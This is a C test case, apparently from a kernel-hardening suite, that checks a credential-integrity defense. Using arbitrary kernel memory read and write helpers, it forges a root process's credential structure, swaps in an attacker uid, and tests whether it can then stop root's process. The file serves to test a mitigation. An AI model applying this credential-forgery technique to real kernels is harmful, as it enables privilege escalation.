// SPDX-License-Identifier: GPL-2.0-only
#include "attack.h"

ATTACK("cred_integrity", "forged_seal", "cred_integrity: a task's seal is not its own",
       "The program copies the seal of a program of root to the kernel's ordinary memory, gives "
       "the copy its own user id, lets root's task point to it, and stops root's program.",
       "A seal is an object of the heap's sealed slabs of seals, which sealed memory alone says, "
       "and names its task.",
       "Root's program belongs to everybody for the kernel: it stops.");

#define SEAL_BYTES 1024 /* no less than a seal has */

static long victim_number(void)
{
	return (long)peek32(victim_task(own_task()) + member("task.id"));
}

static bool control(void)
{
	return is_ordinary() && call2(__NR_kill, victim_number(), SIGSTOP) == -EPERM;
}

/* At the cold end of the own kernel stack. */
static uint64_t forge(uint64_t seal)
{
	const uint64_t forged = peek(own_task() + member("task.stack_top")) - 16000;
	const uint64_t credentials = forged + member("task_seal.credentials");

	for (uint64_t i = 0; i < SEAL_BYTES; i += 8)
		poke(forged + i, peek(seal + i));
	poke32(credentials + member("credentials.uid"), ATTACKER_UID);
	poke32(credentials + member("credentials.suid"), ATTACKER_UID);
	return forged;
}

static bool fire(void)
{
	const uint64_t place = victim_task(own_task()) + member("task.seal"), seal = peek(place);
	const long number = victim_number();
	bool stopped;

	poke(place, forge(seal));
	stopped = call2(__NR_kill, number, SIGSTOP) == 0;
	poke(place, seal);
	return stopped;
}

static void victim(void)
{
	victim_waits();
}
